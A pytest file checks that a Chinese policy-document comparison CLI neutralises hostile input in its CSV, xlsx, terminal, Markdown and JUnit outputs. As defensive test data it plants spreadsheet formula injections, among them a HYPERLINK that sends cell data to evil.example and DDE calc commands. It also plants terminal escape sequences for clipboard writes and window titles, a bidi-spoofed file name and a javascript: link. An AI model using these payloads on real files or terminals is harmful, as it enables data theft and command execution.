"""No output of any command starts a spreadsheet formula, carries a control or escape character to a terminal, an
error line, JUnit or xlsx, or makes a Markdown link, whatever the documents (and their file names) hold."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest

from yigai_cli.formats.cells import inert, markdown_cell, one_line, visible, xml_text

from .conftest import CITY, NATIONAL

# What a hostile list plants in its items: live formulas, terminal escape sequences (clipboard, hyperlink, window
# title), a one-byte CSI, a bidi override, the controls XML 1.0 forbids, and a Markdown link with a script.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;http://evil.example\x1b\\点此\x1b]8;;\x1b\\",
    "\x1b]0;pwned\x07",
    "\x9b31m",
    "\u202etxt.exe",
    "\x0b\x0c\x08",
    "[点此](javascript:alert(1))",
]
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE_NAME = '=HYPERLINK("http:evil")\x1b]0;x\x07.txt'


def _hostile(folder: Path) -> Path:
    """The city draft with a payload at the start of each numbered item (a title begins there) and a hostile name."""
    lines = []
    payloads = iter(PAYLOADS * 10)
    for line in CITY.read_text(encoding="utf-8").splitlines():
        match = re.match(r"^(\([一二三四五六七八九十]+\))", line)
        lines.append(f"{match.group(1)}{next(payloads)}{line[match.end():]}" if match else line)
    last = max(n for n, line in enumerate(lines) if line.startswith("("))
    lines[last] = lines[last][:4] + "\x00" + lines[last][4:]  # a NUL past the 8 KiB the binary check looks at
    path = folder / HOSTILE_NAME
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert path.read_bytes().index(b"\x00") > 8192
    return path


@pytest.fixture
def hostile(tmp_path) -> Path:
    return _hostile(tmp_path)


def test_the_hostile_draft_keeps_its_payloads(hostile):
    """The fixture tests something: the reader keeps the planted text in item titles."""
    from yigai.documents import read_document

    titles = " ".join(item.title for item in read_document(str(hostile)).items)
    assert "=HYPERLINK(" in titles and "\x1b]52;" in titles and "\u202e" in titles and "javascript:" in titles


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


CSV_RUNS = {
    "compare": lambda h: ["compare", NATIONAL, h],
    "compare swapped": lambda h: ["compare", h, NATIONAL],
    "matrix": lambda h: ["matrix", NATIONAL, h, CITY],
    "matrix transposed": lambda h: ["matrix", NATIONAL, h, CITY, "--transpose"],
    "diff": lambda h: ["diff", CITY, h],
    "diff reversed": lambda h: ["diff", h, CITY],
}


@pytest.mark.parametrize("run", CSV_RUNS)
def test_no_csv_cell_starts_a_formula_or_holds_a_control(cli, hostile, tmp_path, run):
    out = tmp_path / "out.csv"
    result = cli(*CSV_RUNS[run](hostile), "-o", out)
    assert result.status == 0, result.err
    cells = _csv_cells(out.read_text(encoding="utf-8"))
    assert any("HYPERLINK" in c for c in cells)  # the planted text is there, as text
    assert [c for c in cells if c.startswith(FORMULA)] == []
    assert [c for c in cells if CONTROL.search(c)] == []


XLSX_RUNS = {
    "parse": lambda h: ["parse", h],
    "compare": lambda h: ["compare", NATIONAL, h],
    "matrix": lambda h: ["matrix", NATIONAL, h, CITY],
}


@pytest.mark.parametrize("run", XLSX_RUNS)
def test_no_xlsx_cell_or_header_starts_a_formula_or_holds_a_control(cli, hostile, tmp_path, run):
    out = tmp_path / "out.xlsx"
    result = cli(*XLSX_RUNS[run](hostile), "-o", out)
    assert result.status == 0, result.err
    workbook = openpyxl.load_workbook(out)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert any("HYPERLINK" in t for t in texts)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [t for t in texts if t.startswith(FORMULA)] == []
    assert [t for t in texts if CONTROL.search(t)] == []


TABLE_RUNS = {
    "parse": lambda h: ["parse", h],
    "compare": lambda h: ["compare", NATIONAL, h],
    "compare detail": lambda h: ["compare", NATIONAL, h, "--detail", "1"],
    "matrix": lambda h: ["matrix", NATIONAL, h, CITY],
    "diff": lambda h: ["diff", CITY, h],
    "check": lambda h: ["check", NATIONAL, h, "--min-coverage", "1"],
    "compare markdown": lambda h: ["compare", NATIONAL, h, "-f", "markdown"],
    "check github": lambda h: ["check", NATIONAL, h, "--min-coverage", "1", "-f", "github"],
}


@pytest.mark.parametrize("width", [40, 80, 200])
@pytest.mark.parametrize("run", TABLE_RUNS)
def test_no_escape_reaches_the_terminal(cli, hostile, monkeypatch, run, width):
    monkeypatch.setenv("COLUMNS", str(width))
    result = cli(*TABLE_RUNS[run](hostile))
    assert result.status in (0, 1), result.err
    assert CONTROL.search(result.out) is None and CONTROL.search(result.err) is None
    if run in ("parse", "compare", "compare detail", "diff"):  # those that print the local items' text
        assert "^[" in result.out  # shown, as less shows it
    assert all(line.startswith("yigai: ") for line in result.err.splitlines())


def test_no_escape_reaches_a_gbk_console(hostile, tmp_path):
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONIOENCODING": "gbk", "COLUMNS": "80"}
    done = subprocess.run([sys.executable, "-m", "yigai_cli", "compare", NATIONAL, str(hostile)], capture_output=True,
                          env=env, timeout=120)
    assert done.returncode == 0 and b"\x1b" not in done.stdout and b"\x1b" not in done.stderr


def test_markdown_makes_no_link(cli, hostile):
    for args in (["compare", NATIONAL, hostile, "-f", "markdown"], ["compare", hostile, NATIONAL, "-f", "markdown"],
                 ["diff", CITY, hostile, "-f", "markdown"], ["matrix", NATIONAL, hostile, "-f", "markdown"]):
        result = cli(*args)
        assert result.status == 0, result.err
        assert re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", result.out) is None, args  # no [text](target)
        assert "javascript:" not in result.out or "\\[点此\\](javascript:" in result.out


def test_junit_is_well_formed_xml_holding_no_forbidden_character(cli, hostile, tmp_path):
    out = tmp_path / "check.xml"
    result = cli("check", NATIONAL, hostile, CITY, "--min-coverage", "1", "-o", out)
    assert result.status == 1, result.err
    text = out.read_text(encoding="utf-8")
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == "testsuites" and CONTROL.search(text.replace("\t", " ")) is None
    assert "^[" in text or "HYPERLINK" in text


@pytest.mark.parametrize("name", ["bad\x1b]0;title\x07.txt", "two\nlines.txt", "bell\x07.txt", "csi\x9b2J.txt",
                                  "bidi\u202etxt.exe"])
def test_an_error_names_a_hostile_file_in_one_visible_line(cli, tmp_path, name):
    result = cli("parse", tmp_path / name)
    assert result.status == 2 and result.err.count("\n") == 1 and CONTROL.search(result.err) is None
    assert "no such file" in result.err


def test_a_warning_names_a_hostile_file_in_one_visible_line(cli, tmp_path):
    path = tmp_path / "x\nyigai: error: forged\x1b[2J.txt"
    path.write_bytes(CITY.read_bytes())
    result = cli("compare", path, NATIONAL)  # the national list second: a warning names both
    assert result.status == 0 and "warning" in result.err
    assert all(line.startswith("yigai: warning: ") for line in result.err.splitlines()), result.err
    assert CONTROL.search(result.err) is None


def test_the_rules_themselves():
    assert visible("a\x1b[31mb\x07") == "a^[[31mb^G" and visible("\x9b\u202e") == "<U+009B><U+202E>"
    assert visible("一\n二\t", "\t\n") == "一\n二\t" and one_line("a\nb\rc") == "a^Jb^Mc"
    assert xml_text("a\x0bb\x00\ufffe\ud800") == "a^Kb^@<U+FFFE><U+D800>"
    assert [inert(v) for v in ("\t=1", "＝1", "\x1b=1", " =1", "1-2")] == ["'\t=1", "'＝1", "^[=1", " =1", "1-2"]
    assert markdown_cell("[x](javascript:alert(1))") == "\\[x\\](javascript:alert(1))"


@pytest.mark.parametrize("args, output", [
    (["parse"], "c.json"), (["parse"], "c.xlsx"), (["compare", NATIONAL], "c.json"), (["compare", NATIONAL], "c.csv"),
    (["matrix", NATIONAL], "m.xlsx"), (["check", NATIONAL, "--min-coverage", "0.1"], "c.xml"), (["report", NATIONAL], "r.html"),
])
def test_a_file_name_of_invalid_utf8_is_written_in_every_format(cli, tmp_path, args, output):
    import os

    name = os.fsdecode(bytes(tmp_path) + b"/bad\xff\xfe.txt")
    Path(name).write_bytes(CITY.read_bytes())
    result = cli(*args, name, "-o", tmp_path / output)
    assert result.status == 0, result.err
    assert (tmp_path / output).stat().st_size > 100 and CONTROL.search(result.err) is None
